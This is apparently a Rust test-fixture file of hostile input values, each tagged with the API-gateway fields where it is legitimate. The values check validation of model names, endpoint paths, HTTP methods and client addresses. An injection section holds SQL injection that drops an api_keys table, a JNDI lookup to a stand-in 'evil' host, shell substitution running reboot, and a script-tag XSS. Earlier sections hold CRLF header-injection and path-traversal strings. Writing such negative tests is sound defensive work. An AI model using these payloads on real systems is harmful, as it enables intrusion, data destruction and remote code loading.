//! Hostile values, each with the fields in which it is legitimate after all, and why.

use prost::bytes::Bytes;

/// Nowhere: denied in every field, for every key.
const NOWHERE: u8 = 0;
/// As a model or chatbot: names are opaque. Any UTF-8 of 1 to 256 bytes without control characters is one, is
/// compared byte for byte and equals only itself, so that nothing can be passed off as an allowed name.
pub const NAME: u8 = 1;
/// As an endpoint: a path that has one meaning only. What may not stand in a path as it is is escaped, and equals
/// only itself.
pub const PATH: u8 = 2;
/// As an endpoint, it is `/v1/models` itself: query and fragment are no part of it, unreserved characters are the
/// same escaped or not, repeated slashes are one.
pub const SAME_PATH: u8 = 4 | PATH;
/// As a method: a token of RFC 9110. Methods are an open set and case-sensitive.
pub const METHOD: u8 = 8;
/// As a client address: it is one, in a spelling with one meaning.
pub const ADDRESS: u8 = 16;

/// One value.
#[derive(Clone, Debug)]
pub struct Value {
    pub name: &'static str,
    pub bytes: Bytes,
    pub legitimate: u8,
}

fn value(name: &'static str, bytes: &'static [u8], legitimate: u8) -> Value {
    Value { name, bytes: Bytes::from_static(bytes), legitimate }
}

fn text(name: &'static str, text: &'static str, legitimate: u8) -> Value {
    value(name, text.as_bytes(), legitimate)
}

fn repeated(name: &'static str, unit: &[u8], bytes: usize, legitimate: u8) -> Value {
    let bytes: Vec<u8> = unit.iter().copied().cycle().take(bytes).collect();
    Value { name, bytes: bytes.into(), legitimate }
}

/// A megabyte each.
pub fn long() -> Vec<Value> {
    const MIB: usize = 1 << 20;
    vec![
        repeated("1 MiB of x", b"x", MIB, NOWHERE),
        repeated("1 MiB of 0xFF", b"\xff", MIB, NOWHERE),
        repeated("1 MiB of /", b"/", MIB, NOWHERE),
        repeated("1 MiB of NUL", b"\0", MIB, NOWHERE),
        repeated("1 MiB of digits and dots", b"1.", MIB, NOWHERE),
        repeated("1 MiB of query", b"/v1/models?", MIB, SAME_PATH),
    ]
}

/// All others.
pub fn all() -> Vec<Value> {
    [bytes(), controls(), unicode(), paths(), spellings(), methods(), addresses(), injections()].concat()
}

fn bytes() -> Vec<Value> {
    vec![
        value("NUL", b"\0", NOWHERE),
        value("NUL inside", b"gpt\0-4o", NOWHERE),
        value("NUL after the allowed name", b"gpt-4o\0", NOWHERE),
        value("0xFF", b"\xff", NOWHERE),
        value("a lone continuation", b"\x80", NOWHERE),
        value("half a character", b"caf\xc3", NOWHERE),
        value("overlong /", b"/v1\xc0\xafmodels", NOWHERE),
        value("overlong . of three bytes", b"/v1/\xe0\x80\xae\xe0\x80\xae/models", NOWHERE),
        value("overlong NUL", b"gpt\xc0\x80", NOWHERE),
        value("a surrogate", b"\xed\xa0\x80", NOWHERE),
        value("CESU-8", b"\xed\xa0\xbd\xed\xb8\x80", NOWHERE),
        value("above U+10FFFF", b"\xf4\x90\x80\x80", NOWHERE),
        value("a sequence of five bytes", b"\xf8\x88\x80\x80\x80", NOWHERE),
        value("UTF-16", b"\xff\xfeg\0p\0t\0", NOWHERE),
        value("Latin-1", b"/caf\xe9", NOWHERE),
        value("escaped Latin-1", b"/caf%E9", NAME),
        repeated("257 bytes", b"x", 257, NOWHERE),
        repeated("256 bytes", b"x", 256, NAME),
        repeated("a path of 8192 bytes", b"/x", 8192, PATH),
        repeated("a path of 8193 bytes", b"/x", 8193, NOWHERE),
        repeated("8192 slashes", b"/", 8192, PATH),
    ]
}

fn controls() -> Vec<Value> {
    vec![
        text("newline", "gpt\n-4o", NOWHERE),
        text("newline at the end", "gpt-4o\n", NOWHERE),
        text("CRLF injection", "/v1\r\nX-Admin: true", NOWHERE),
        text("tab", "gpt\t4o", NOWHERE),
        text("escape sequence", "\u{1b}[2J\u{1b}[31mgpt", NOWHERE),
        text("DEL", "/v1\u{7f}", NOWHERE),
        text("C1: CSI", "gpt\u{9b}31m", NOWHERE),
        text("C1: next line", "/v1/\u{85}", NOWHERE),
    ]
}

fn unicode() -> Vec<Value> {
    vec![
        text("bidi override", "\u{202e}o4-tpg", NAME),
        text("bidi isolate in a path", "/v1/\u{2066}models\u{2069}", NAME | PATH),
        text("zero-width space", "gpt\u{200b}-4o", NAME),
        text("zero-width joiner", "gpt\u{200d}-4o", NAME),
        text("byte order mark", "\u{feff}gpt-4o", NAME),
        text("byte order mark before a path", "\u{feff}/v1/models", NAME),
        text("soft hyphen in a path", "/v1/mod\u{ad}els", NAME | PATH),
        text("line separator", "gpt\u{2028}-4o", NAME),
        text("full-width letters", "ｇｐｔ－４ｏ", NAME),
        text("full-width letters in a path", "/v1/ｍodels", NAME | PATH),
        text("full-width solidus", "／v1／models", NAME),
        text("a Cyrillic letter", "gрt-4o", NAME),
        text("combining accent", "e\u{301}cole", NAME),
        text("tag characters", "gpt-4o\u{e0041}\u{e007f}", NAME),
        text("noncharacter", "gpt\u{ffff}", NAME),
        text("replacement character", "gpt\u{fffd}", NAME),
        text("emoji", "🔑", NAME),
    ]
}

fn paths() -> Vec<Value> {
    vec![
        text("..", "..", NAME | METHOD),
        text("/..", "/..", NAME),
        text(". segment", "/v1/./models", NAME),
        text(".. segment", "/v1/../admin", NAME),
        text(".. at the end", "/v1/models/..", NAME),
        text("escaped ..", "/v1/%2e%2e/admin", NAME),
        text("half escaped ..", "/v1/.%2E/admin", NAME),
        text(".. before an escaped slash", "/v1/..%2fadmin", NAME),
        text("twice escaped ..", "/v1/%252e%252e/admin", NAME),
        text("twice escaped slash", "/v1%252fadmin", NAME),
        text("escaped slash", "/v1%2Fmodels", NAME),
        text("overlong escaped ..", "/v1/%c0%ae%c0%ae/admin", NAME),
        text("IIS escape", "/v1/%u002e%u002e/admin", NAME),
        text("escaped NUL", "/v1/models%00", NAME),
        text("escaped CRLF", "/v1/models%0d%0aX-Admin:%20true", NAME),
        text("escaped C1", "/v1/models%C2%9B", NAME),
        text("escaped surrogate", "/v1/%ED%A0%80", NAME),
        text("backslash", "/v1\\..\\admin", NAME),
        text("escaped backslash", "/v1/..%5cadmin", NAME),
        text("half an escape", "/v1/models%2", NAME),
        text("no escape", "/v1/models%zz", NAME),
        text("no root", "v1/models", NAME),
        text("a URL", "http://keystile/v1/models", NAME),
        text("a space in front", " /v1/models", NAME),
        text("query alone", "?x=/v1/models", NAME),
    ]
}

/// Paths with one meaning, some of them the allowed one.
fn spellings() -> Vec<Value> {
    vec![
        text("two slashes", "//v1//models", NAME | SAME_PATH),
        text("escaped letter", "/v1/%6dodels", NAME | SAME_PATH),
        text(".. in the query", "/v1/models?path=../../admin", NAME | SAME_PATH),
        text(".. in the fragment", "/v1/models#/../admin", NAME | SAME_PATH),
        value("NUL in the query", b"/v1/models?\0", SAME_PATH),
        value("bytes in the query", b"/v1/models?\xff%zz", SAME_PATH),
        text("trailing slash", "/v1/models/", NAME | PATH),
        text("trailing space", "/v1/models ", NAME | PATH),
        text("capitals", "/V1/MODELS", NAME | PATH),
        text("a star", "/v1/*", NAME | PATH),
        text("path parameters", "/v1/models;admin=true", NAME | PATH),
        text("three dots", "/v1/.../models", NAME | PATH),
        text("a method before the path", "GET /v1/models", NAME),
    ]
}

fn methods() -> Vec<Value> {
    vec![
        text("lower-case method", "get", NAME | METHOD),
        text("a method nobody knows", "M-SEARCH", NAME | METHOD),
        text("a star alone", "*", NAME | METHOD),
        text("two methods", "GET,POST", NAME),
        text("a method and a space", "GET ", NAME),
        text("a Cyrillic method", "GЕT", NAME),
        text("a method of 33 letters", "GGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGGG", NAME),
    ]
}

fn addresses() -> Vec<Value> {
    vec![
        text("port", "192.0.2.7:443", NAME),
        text("brackets", "[2001:db8::7]", NAME),
        text("zone", "fe80::1%eth0", NAME),
        text("escaped zone", "fe80::1%25eth0", NAME),
        text("CIDR", "192.0.2.0/24", NAME),
        text("forwarded list", "192.0.2.7, 198.51.100.9", NAME),
        text("space after the address", "192.0.2.7 ", NAME),
        text("octal", "0300.0.02.07", NAME | METHOD),
        text("a leading zero", "192.0.2.07", NAME | METHOD),
        text("hexadecimal", "0xC0.0x0.0x2.0x7", NAME | METHOD),
        text("short form", "127.1", NAME | METHOD),
        text("one number", "3221225991", NAME | METHOD),
        text("out of range", "192.0.2.263", NAME | METHOD),
        text("five numbers", "192.0.2.7.7", NAME | METHOD),
        text("Arabic digits", "١٩٢.٠.٢.٧", NAME),
        text("a host", "localhost", NAME | METHOD),
        text("two gaps", "2001::db8::7", NAME),
        text("mapped, elsewhere", "::ffff:198.51.100.9", NAME | ADDRESS),
        text("mapped, elsewhere, in hexadecimal", "::FFFF:C633:6409", NAME | ADDRESS),
        text("compatible: IPv6, not the allowed IPv4", "::192.0.2.7", NAME | ADDRESS),
        text("NAT64: IPv6, not the allowed IPv4", "64:ff9b::192.0.2.7", NAME | ADDRESS),
        text("unspecified", "0.0.0.0", NAME | METHOD | ADDRESS),
        text("broadcast", "255.255.255.255", NAME | METHOD | ADDRESS),
    ]
}

fn injections() -> Vec<Value> {
    vec![
        text("SQL, always true", "' OR '1'='1", NAME),
        text("SQL, a second statement", "x'; DROP TABLE api_keys; --", NAME),
        text("SQL, wildcards of LIKE", "%_%", NAME | METHOD),
        text("SQL, a dollar quote", "$$;SELECT pg_sleep(9)$$", NAME),
        text("format string", "%s%n%p", NAME | METHOD),
        text("format braces", "{}{0:?}", NAME),
        text("template", "{{7*7}}", NAME),
        text("JNDI", "${jndi:ldap://evil/a}", NAME),
        text("shell", "$(reboot)", NAME),
        text("back quotes", "`reboot`", NAME | METHOD),
        text("HTML", "<script>alert(1)</script>", NAME),
        text("JSON", "{\"admin\":true}", NAME),
        text("regular expression", "(a+)+$", NAME),
        text("glob", "gpt-4*", NAME | METHOD),
    ]
}
